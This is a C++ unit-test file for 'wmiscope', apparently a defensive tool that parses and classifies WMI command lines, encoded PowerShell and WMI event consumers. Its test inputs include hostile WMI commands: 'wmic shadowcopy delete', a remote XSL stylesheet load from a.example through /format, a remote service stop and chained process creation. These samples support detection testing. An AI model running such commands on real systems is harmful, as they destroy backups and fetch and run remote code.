// SPDX-License-Identifier: Apache-2.0
#include "context/judge/payload.h"

#include <gtest/gtest.h>

namespace wmiscope {
namespace {

TEST(Payload, OfAWmicCall) {
  constexpr const char* kLine = R"(wmic /node:SRV service where "name='x'" call stopservice)";
  std::vector<Payload> out;
  add_payloads(parse_wmic(kLine), kLine, true, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].act, payload_act::kCall);
  EXPECT_EQ(out[0].target, "remote");
  EXPECT_EQ(out[0].class_name, "Win32_Service");
  EXPECT_EQ(out[0].method, "stopservice");
  EXPECT_EQ(out[0].where, "name='x'");
  EXPECT_EQ(out[0].command_line, "") << "understood: judged by its parts";
}

TEST(Payload, StyleSheetsRunWhereWmicRuns) {
  constexpr const char* kLine = R"(wmic /node:SRV os get /format:"https://a.example/x")";
  std::vector<Payload> out;
  add_payloads(parse_wmic(kLine), kLine, true, out);
  ASSERT_EQ(out.size(), 1u) << "what is listed is the pretext";
  EXPECT_EQ(out[0].act, payload_act::kStyleSheet);
  EXPECT_EQ(out[0].target, "local");
  EXPECT_EQ(out[0].url, "https://a.example/x");
}

TEST(Payload, ChildrenAreDecodedAndTheirCallsRead) {
  std::vector<Payload> out;
  add_child("powershell -enc RwBlAHQALQBXAG0AaQBPAGIAagBlAGMAdAAgAFcAaQBuADMAMgBfAEIASQBPAFMA",
            R"(C:\x\powershell.exe)", true, out);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].act, payload_act::kChild);
  EXPECT_EQ(out[0].decoded_text, "Get-WmiObject Win32_BIOS");
  EXPECT_EQ(out[0].image, R"(C:\x\powershell.exe)");
  EXPECT_EQ(out[1].class_name, "Win32_BIOS");
  std::vector<Payload> wmic;
  add_child("cmd /c wmic shadowcopy delete", "", false, wmic);
  ASSERT_EQ(wmic.size(), 2u);
  EXPECT_EQ(wmic[1].method, "Delete");
}

TEST(Payload, CallsThatStartCallsAreReadToADepth) {
  std::string line;
  for (int i = 0; i < 40; ++i) line += "wmic process call create ";
  line += "whoami";
  std::vector<Payload> out;
  add_child(line, "", false, out);
  EXPECT_EQ(out.size(), 5u);
  std::vector<Payload> created;
  constexpr const char* kLine = R"(wmic process call create "cmd /c wmic os get a & wmic qfe")";
  add_payloads(parse_wmic(kLine), kLine, false, created);
  ASSERT_EQ(created.size(), 3u);
  EXPECT_EQ(created[2].class_name, "Win32_QuickFixEngineering");
}

TEST(Payload, WordsOfALongScriptSayNothing) {
  std::vector<Payload> out;
  add_script_words("gwmi x; 'VMware'", out);
  EXPECT_EQ(out.size(), 1u);
  add_script_words(std::string(kLongestActScript + 1, 'x'), out);
  add_script_words("", out);
  EXPECT_EQ(out.size(), 1u);
}

TEST(Payload, TriggersCarryNothing) {
  std::vector<Payload> out;
  add_query(
      "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'", "",
      out);
  WmiCall watch;
  watch.word = "Register-WmiEvent";
  watch.class_name = "Win32_ProcessStartTrace";
  add_payloads(watch, false, out);
  WmiOperation definition;
  definition.interface_method = "GetObject";
  definition.class_name = definition.text = "Win32_Process";
  add_operation(definition, false, out);
  EXPECT_TRUE(out.empty());
}

TEST(Payload, ConsumersByKind) {
  struct Case {
    ConsumerKind kind;
    std::string Payload::* member;
  };
  constexpr Case kCases[] = {
      {ConsumerKind::kCommandLine, &Payload::command_line},
      {ConsumerKind::kScript, &Payload::script},
      {ConsumerKind::kUnknown, &Payload::script},
      {ConsumerKind::kLogFile, &Payload::destination},
      {ConsumerKind::kSmtp, &Payload::destination},
  };
  for (const Case& c : kCases) {
    std::vector<Payload> out;
    add_consumer(c.kind, "x Win32_Service", out);
    ASSERT_EQ(out.size(), 2u);
    EXPECT_EQ(out[0].*c.member, "x Win32_Service");
    EXPECT_FALSE(out[0].consumer.empty());
    EXPECT_EQ(out[1].class_name, "Win32_Service");
  }
}

TEST(Payload, FieldsHaveTheirOwnNames) {
  const FieldTable table = payload_field_table();
  ASSERT_EQ(table.kinds.size(), 1u);
  EXPECT_EQ(table.category(kPayloadCategory).size(), 1u);
  for (const PayloadField& a : payload_fields()) {
    for (const PayloadField& b : payload_fields()) {
      EXPECT_EQ(&a == &b, a.name == b.name) << a.name;
      EXPECT_EQ(&a == &b, a.member == b.member) << a.name;
    }
  }
}

}  // namespace
}  // namespace wmiscope
